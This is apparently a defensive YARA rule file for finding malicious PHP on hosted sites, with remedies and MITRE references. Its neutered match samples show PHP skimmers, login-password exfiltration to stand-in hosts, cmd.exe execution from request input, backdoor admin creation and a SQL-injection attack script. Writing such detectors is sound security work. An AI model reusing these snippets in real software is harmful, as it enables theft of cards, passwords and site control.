/* Scripts that steal what the site stores, or take over the machine below it. */

rule stored_cards_read {
  meta:
    id = "thief/stored-cards-read"
    title = "Stored card numbers are read out of the shop"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "A loose script starts the shop by itself and asks its payment tables for card numbers."
    remedy = "Delete the file, tell the shop's owner and the payment provider, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1213/"
    must_match = "<?php exit; include '../app/Mage.php'; Mage::app(); $q = Mage::getModel('sales/quote_payment')->addFieldToFilter('cc_number_enc', 1);"
    must_not = "<?php require_once 'app/Mage.php'; Mage::run(); // shows no card"
  strings:
    $shop = /(include|require)(_once)?[\s(]{0,3}['"][^'"\n]{0,120}app\/(Mage|bootstrap)\.php['"]/ nocase private
    $card = /(cc_number_enc|cc_cid_enc|cc_exp_month)/
  condition:
    $shop and $card and filesize < 64KB
}

rule shop_secrets_collected {
  meta:
    id = "thief/secrets-collected"
    title = "Database passwords are collected, and the script removes itself"
    family = "php-misc"
    severity = "critical"
    confidence = "likely"
    description = "A script walks up the folders for configuration files, uses the database passwords in them, and deletes itself."
    remedy = "Change every password that the account's configuration files hold; restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1552/001/"
    must_match = "<?php exit; $localXml = array('local.xml'); $users = 1; mysql_connect($h, $u, $p); unlink(__FILE__);"
    must_not = "<?php $config = new Config('local.xml'); unlink($cacheFile);"
  strings:
    $config = /['"](local\.xml|wp-config\.php|configuration\.php|settings\.php|config\.inc\.php)['"]/ nocase
    $gone = /unlink\s?\(\s?__FILE__\s?\)/ nocase
    $database = /(mysqli?_connect|new\s{1,3}(mysqli|PDO)|simplexml_load_file)\s?\(/ nocase private
  condition:
    $gone and $config and $database
}

rule windows_user_made {
  meta:
    id = "web-shell/makes-windows-user"
    title = "A user of the operating system is created through COM"
    family = "exec-misc"
    severity = "critical"
    confidence = "certain"
    description = "The script asks Windows for its user administration or command shell through COM."
    remedy = "Delete the file; look for accounts on the machine that nobody made; restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1136/"
    must_match = "<?php exit; $su = new COM('Shell.Users'); $h = $su->create('inert');"
    must_match = "<?php exit; $w = new COM(\"WScript.Shell\"); $w->exec('cmd.exe /c ' . $_GET['inert']);"
    must_not = "<?php $word = new COM('Word.Application');"
  strings:
    $users = /new\s{1,3}COM\s?\(\s?['"]Shell\.Users['"]/ nocase
    $shell = /new\s{1,3}COM\s?\(\s?['"](WScript\.Shell|Shell\.Application)['"]/ nocase
    $request = /\$_(GET|POST|REQUEST|COOKIE)\b/ private
  condition:
    $users or ($shell and $request)
}

rule foreign_script_first {
  meta:
    id = "page-script/foreign-script-first"
    title = "Scripts of other sites stand before the first line of PHP"
    family = "injected"
    severity = "high"
    confidence = "likely"
    description = "A script tag with an address on another host was put at the very beginning of a PHP file, before its code: an injected redirect."
    remedy = "Delete the tag; then look for the script that writes it again, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1189/"
    must_match = "<script type='text/javascript' src='https://inert.example.test/m.js?n=1'></script><?php exit;\n// Silence is golden.\n"
    must_not = "<script src='js/app.js'></script><?php echo $page; ?>"
  strings:
    $script = /<script[^>\n]{0,80}\ssrc\s?=\s?['"]?(https?:)?\/\/[^>\n]{4,200}>\s?<\/script>\s{0,3}(<script[^>\n]{0,200}>\s?<\/script>\s{0,3}){0,8}<\?php/ nocase
  condition:
    $script at 0
}

rule any_database_dumped {
  meta:
    id = "thief/dumps-any-database"
    title = "Any database is copied out to whoever fills in the form"
    family = "exec-misc"
    severity = "high"
    confidence = "likely"
    description = "A loose script takes host, name and password of a database from a form, reads every table and sends the copy to the browser."
    remedy = "Change every password that the account's configuration files hold; restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1213/006/"
    unless_code = "\\$_SESSION\\b"
    must_match = "<?php exit; $host = $_POST['host']; $dbname = $_POST['dbname']; $dbpass = $_POST['dbpass']; $p = new PDO($host, $dbname, $dbpass); $p->query('SHOW TABLES'); $p->query('SHOW CREATE TABLE inert'); header('Content-Disposition: attachment');"
    must_not = "<?php session_start(); $_SESSION['kept'] = 1; $host = $_POST['host']; $dbname = $_POST['dbname']; $dbpass = $_POST['dbpass']; $p = new PDO($host, $dbname, $dbpass); $p->query('SHOW CREATE TABLE inert'); header('Content-Disposition: attachment');"
    must_not = "<?php $p = new PDO(DSN, USER, PASS); $p->query('SHOW TABLES'); $p->query('SHOW CREATE TABLE a'); header('Content-Disposition: attachment'); $page = $_POST['host'];"
  strings:
    $tag = "<?" private
    $tables = /SHOW\s{1,3}CREATE\s{1,3}TABLE/ nocase
    $attached = /Content-Disposition[^;\n]{0,12}attachment/ nocase
    $login = /\$\w{1,20}\s{0,3}=\s{0,3}(trim\s?\()?\$_(POST|GET|REQUEST)\s{0,2}\[\s{0,2}['"](db|sql|my)?_?(host|server|name|user|username|login|id|pass|password|pwd|pw)['"]/ nocase
    $connect = /(mysqli?_connect|new\s{1,3}(mysqli|PDO))\s{0,2}\(/ nocase
  condition:
    $tag and $tables and $attached and $connect and #login > 2 and filesize < 32KB
}

rule shop_reached_from_far_below {
  meta:
    id = "thief/shop-reached-from-far-below"
    title = "A loose script looks into the shop from many folders below"
    family = "oneliner-dyn"
    severity = "high"
    confidence = "likely"
    description = "A few lines go up more folders than a shop has, start it from there, and print its orders, customers or settings: whoever wrote them did not know where they would lie."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1213/"
    unless_code = "(current_user_can|is_user_logged_in|check_admin_referer|wp_verify_nonce)\\s?\\("
    must_match = "<?php exit; include '../../../../../../../app/Mage.php'; Mage::app(); var_dump(Mage::getModel('sales/order')->getCollection()->getSize());"
    must_match = "<?php exit; require '../../../../../../../../wp-load.php'; echo DB_PASSWORD;"
    must_not = "<?php require_once '../../app/Mage.php'; Mage::app(); echo Mage::getModel('sales/order')->getCollection()->getSize();"
    must_not = "<?php require_once('../../../../../../wp-load.php'); echo count($wpdb->get_results($orders));"
    must_not = "<?php require '../../../../../../../../wp-load.php'; if (!current_user_can('export')) die('no'); echo count($wpdb->get_results($orders));"
  strings:
    $shop = /(include|require)(_once)?[\s(@]{0,3}['"](\.\.\/){6,}(app\/(Mage|bootstrap)|configuration|config\/settings\.inc)\.php['"]/ nocase
    $deep = /(include|require)(_once)?[\s(@]{0,3}['"](\.\.\/){8,}(wp-load|wp-config)\.php['"]/ nocase
    $shown = /\b(var_dump|print_r|echo|print|die|exit|json_encode)\b/ nocase
    $asked = /(getModel|getCollection|fetchAll|get_users|get_results|DB_PASSWORD|getConnection|_DB_PASSWD_)/
  condition:
    any of ($shop, $deep) and $shown and $asked and filesize < 16KB
}

rule administrator_from_code {
  meta:
    id = "account/administrator-from-code"
    title = "An administrator is made by code, with a password that is written there"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "A user with the rights of an administrator and a fixed password is put into the site by a hook, a hidden request or a loose script: whoever deletes the user sees it come back."
    remedy = "Delete the file and the user that it makes; change every administrator's password."
    reference = "https://attack.mitre.org/techniques/T1136/"
    unless_code = "\\b\\w{0,40}TestCase\\b|->factory\\b|\\bWP_CLI\\b|\\bcurrent_user_can\\s?\\(|\\bcodeception\\b|\\bPHPUnit\\b"
    must_match = "<?php exit; add_action('init', function () { wp_insert_user(['user_login' => 'inert', 'user_pass' => 'inert', 'role' => 'administrator']); });"
    must_match = "<?php exit; if ($_GET['a'] == 'inert') { $id = wp_create_user('inert', 'inert'); $u = new WP_User($id); $u->set_role('administrator'); }"
    must_match = "<?php exit; $db->setQuery(\"INSERT INTO #__user_usergroup_map VALUES($id, 8)\"); $db->setQuery(\"INSERT INTO #__users VALUES('inert')\");"
    must_match = "<?php exit; query(\"INSERT INTO {$p}usermeta VALUES (NULL, $i, '{$p}capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\");"
    must_match = "<?php exit; $c->query(\"UPDATE wp_users SET user_pass=MD5('inert') WHERE ID=1\");"
    must_not = "<?php $db->query(\"UPDATE wp_users SET user_pass=MD5('$password') WHERE ID=1\");"
    must_match = "<?php exit; Mage::getModel('admin/user')->setData(array('username' => 'inert', 'password' => 'inert')); $u->setRoleIds(array(1));"
    must_not = "<?php add_action('init', 'x'); wp_insert_user(['user_login' => $login, 'user_pass' => wp_generate_password(), 'role' => 'administrator']);"
    must_not = "<?php class UserTest extends WP_UnitTestCase { function test() { $_GET['a'] = 1; wp_insert_user(['user_login' => 'a', 'user_pass' => 'a', 'role' => 'administrator']); } }"
    must_not = "<?php $user = Mage::getModel('admin/user')->setData(array('username' => $name, 'password' => $password)); $user->setRoleIds(array(1));"
  strings:
    $created = /\bwp_create_user\s?\(\s?["'][^"'\n$]{2,40}["']\s?,\s?["'][^"'\n$]{2,60}["']/
    $inserted = /\bwp_insert_user\s?\(\s?(array\s?\(|\[)[^;]{0,300}["']user_pass["']\s?=>\s?["'][^"'$\n]{1,60}["']/
    $role = "administrator"
    $hook = /\badd_action\s?\(\s?["'](init|wp|wp_head|wp_footer|wp_loaded|plugins_loaded|after_setup_theme|template_redirect)["']/
    $asked = /\$_(GET|REQUEST|COOKIE|POST)\b/
    $loose = /(wp-load|wp-blog-header)\.php["']/
    $group = /INSERT\s{1,4}INTO\s{1,4}[^\s(]{0,30}user_usergroup_map[^;"]{0,80}VALUES\s?\([^;")]{1,40},\s?['"]?8\b/ nocase
    $member = /INSERT\s{1,4}INTO\s{1,4}[^\s(]{1,30}_users[^;"]{0,160}VALUES\s?\(\s?'/ nocase
    $shop = /getModel\s?\(\s?["']admin\/user["']\s?\)[^;]{0,400}["']password["']\s?=>\s?["'][^"'$\n]{1,60}["']/
    $roles = "setRoleIds"
    $rights = /INSERT\s{1,4}INTO\s{1,4}[^\s(]{0,40}usermeta[^;]{0,300}a:1:\{s:13:\\?["']administrator/ nocase
    $taken = /query\s?\([^;]{0,60}UPDATE\s{1,4}[^\s"']{0,30}users[`\s]{1,4}SET\s{1,4}`?user_pass`?\s?=\s?["']?MD5\(\s?\\?["'][^"'$]{1,40}\\?["']/ nocase
  condition:
    filesize < 256KB and ((any of ($created, $inserted) and $role and any of ($hook, $asked, $loose)) or ($group and $member) or $rights or $taken or ($shop and $roles))
}

rule login_without_password {
  meta:
    id = "account/login-without-password"
    title = "A loose script logs whoever asks in as administrator"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "A few lines start the site and set the cookie of a login for a user of their choice, without asking for a password or a token."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1556/"
    unless_code = "(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_transient|delete_transient|get_user_meta)\\s?\\("
    must_match = "<?php exit; require 'wp-load.php'; $u = get_users(['role' => 'administrator'])[0]; wp_set_auth_cookie($u->ID);"
    must_not = "<?php require 'wp-load.php'; if (wp_check_password($_POST['p'], $user->user_pass)) wp_set_auth_cookie($user->ID);"
  strings:
    $start = /(include|require)(_once)?\b[^;]{0,120}(wp-load|wp-blog-header|wp-config)\.php["']/
    $cookie = /\bwp_set_auth_cookie\s?\(/
  condition:
    $start and $cookie and filesize < 8KB
}

rule password_of_login_kept {
  meta:
    id = "thief/password-of-login-kept"
    title = "Passwords that users log in with are kept or sent away"
    family = "injected-or-fake-cms"
    severity = "critical"
    confidence = "likely"
    description = "The password of the login form goes to a file, a mail or another server, or a hook of the login writes what it is given."
    remedy = "Delete the file, then change the password of every user who logged in since."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "<?php exit; wp_remote_post('https://inert.test/', ['body' => ['p' => $_POST['pwd']]]);"
    must_match = "<?php exit; add_filter('authenticate', function ($u, $n, $p) { file_put_contents('inert.jpg', \"$n:$p\", FILE_APPEND); return $u; }, 30, 3);"
    must_not = "<?php $user = wp_signon(['user_login' => $_POST['log'], 'user_password' => $_POST['pwd']]); wp_remote_post($captcha, ['body' => ['token' => $_POST['token']]]);"
    must_not = "<?php add_filter('authenticate', function ($user, $name, $password) { if ($this->isBlocked($name)) return null; return $user; }, 30, 3);"
  strings:
    $sent = /\b(wp_remote_post|wp_remote_get|wp_mail|mail|file_put_contents|fwrite|fputs|curl_setopt)\s?\([^;]{0,300}\$_(POST|REQUEST)\s?\[\s?["'](pwd|log_pwd)["']\s?\]/
    $kept = /\badd_(action|filter)\s?\(\s?["'](wp_authenticate|authenticate|wp_authenticate_user|check_password)["']\s?,\s?function[^{}]{0,80}\{[^}]{0,60}\b(file_put_contents|fwrite|fputs|wp_remote_post|wp_remote_get|mail|wp_mail)\s?\([^;]{0,160}\$p/
  condition:
    any of them
}

rule card_fields_looked_for {
  meta:
    id = "thief/card-fields-looked-for"
    title = "Whatever is sent is searched for card fields, and passed on"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "The raw body of every request is searched for names of card fields; where they stand it is mailed, written or sent elsewhere."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "<?php exit; $p = file_get_contents('php://input'); if (strpos($p, 'cc_number') !== false) mail('inert@example.test', 'x', $p);"
    must_not = "<?php $event = json_decode(file_get_contents('php://input')); if ($event->type === 'card_number.updated') mail($shop, 'Card', $event->id);"
  strings:
    $body = "php://input"
    $searched = /\b(strpos|stripos|strstr|stristr|preg_match|str_contains)\s?\([^;]{0,80}(cc_number|cc_cid|card_?number|\bcvv|\bcvc)/ nocase
    $passed = /\b(mail|curl_exec|file_put_contents|fsockopen|fwrite)\s?\(|\bfile_get_contents\s?\(\s?["']https?:/
  condition:
    $body and $searched and $passed and filesize < 32KB
}

rule sessions_of_others {
  meta:
    id = "thief/sessions-of-others"
    title = "The sessions of other visitors and sites are shown"
    family = "php-misc"
    severity = "high"
    confidence = "likely"
    description = "A script lists the folder where PHP keeps sessions, opens those it finds there, and shows what they hold."
    remedy = "Delete the file and end all sessions: whoever used it is logged in as others were. Then restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1539/"
    must_match = "<?php exit; $d = opendir('/tmp'); while ($f = readdir($d)) if ($f > 'sess_') { echo fread(fopen(\"/tmp/$f\", 'r'), 99); }"
    must_match = "<?php exit; foreach (glob('/var/lib/php/sessions/sess_*') as $f) echo file_get_contents($f);"
    must_not = "<?php foreach (glob('/tmp/sess_*') as $f) if (filemtime($f) < $old) unlink($f);"
  strings:
    $tag = "<?" private
    $folder = /\b(opendir|scandir|glob|dir|DirectoryIterator)\s{0,2}\(\s{0,2}["'](\/tmp|\/var\/tmp|\/var\/lib\/php)\b/ nocase
    $session = /["'\/]sess_/
    $opened = /\b(fopen|file_get_contents|readfile|file|show_source|highlight_file)\s{0,2}\(\s{0,2}("(\/tmp|\/var\/tmp|\/var\/lib\/php)\b[^"\n]{0,40}\$|\$\w{1,20}\s{0,2}[,)])/ nocase
    $shown = /\b(echo|print|print_r|var_dump|readfile|show_source|highlight_file)\b/ nocase
  condition:
    $tag and $folder and $session and $opened and $shown and filesize < 64KB
}

rule shop_passwords_shown {
  meta:
    id = "thief/shop-passwords-shown"
    title = "Logins of a shop are read out of its database"
    family = "skimmer-or-phish"
    severity = "critical"
    confidence = "likely"
    description = "A loose script reads the shop's configuration, opens its database by itself, and asks it for the passwords of administrators."
    remedy = "Delete the file, change every password of the shop and of its database, and restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1552/001/"
    must_match = "<?php exit; $x = simplexml_load_file('app/etc/local.xml'); mysql_connect($h, $u, $p); $q = mysql_query('SELECT username, password FROM admin_user');"
    must_not = "<?php $config = include 'app/etc/env.php'; $users = $connection->fetchAll('SELECT username FROM admin_user');"
  strings:
    $config = /app\/etc\/(local\.xml|env\.php)["']/ nocase
    $logins = /select\b[^;]{0,200}\bpassword\b[^;]{0,120}\bfrom\b[^;]{0,40}\badmin_user\b/ nocase
    $opened = /\b(mysqli?_connect|new\s{1,3}(mysqli|PDO))\s{0,2}\(/ nocase
  condition:
    all of them and filesize < 128KB
}

rule attacks_another_site {
  meta:
    id = "exploit/attacks-another-site"
    title = "A script of the command line breaks into other sites"
    family = "exec-misc"
    severity = "high"
    confidence = "likely"
    description = "The script is given a host by its arguments, and sends it a request that injects statements into a database or code into a page."
    remedy = "Delete the file, then look for who placed it: others are attacked from this account."
    reference = "https://attack.mitre.org/techniques/T1190/"
    must_match = "<?php exit; print 'Usage: php '.$argv[0].' host path  Exploit'; $s = fsockopen($argv[1], 80); fputs($s, \"GET /a.php?id=-1%27/**/UNION/**/SELECT/**/1\");"
    must_not = "<?php echo \"Usage: php $argv[0] host\"; $s = fsockopen($argv[1], 80); fputs($s, 'GET / HTTP/1.0');"
  strings:
    $tag = "<?" private
    $given = /\$(argv|_SERVER\s?\[\s?["']argv["']\s?\])\s{0,2}\[\s{0,2}[1-3]\s{0,2}\]/
    $says = /\b(exploit(er|ing)?|0-?day|injection|blind sql)\b|\b(my)?sql-?inj/ nocase
    $sends = /\b(fsockopen|curl_exec|stream_socket_client|file_get_contents)\s{0,2}\(/
    $injects = /(union(\s|\/\*\*\/|\+|%20){1,4}(all(\s|\/\*\*\/|\+|%20){1,4})?select\b|%27(%20|\+|\/\*|\s)|concat\s?\(\s?0x|updatexml\s?\(|extractvalue\s?\(|floor\s?\(\s?rand\s?\(|ascii\s?\(\s?sub(str(ing)?)?\s?\()/ nocase
  condition:
    all of them and filesize < 64KB
}
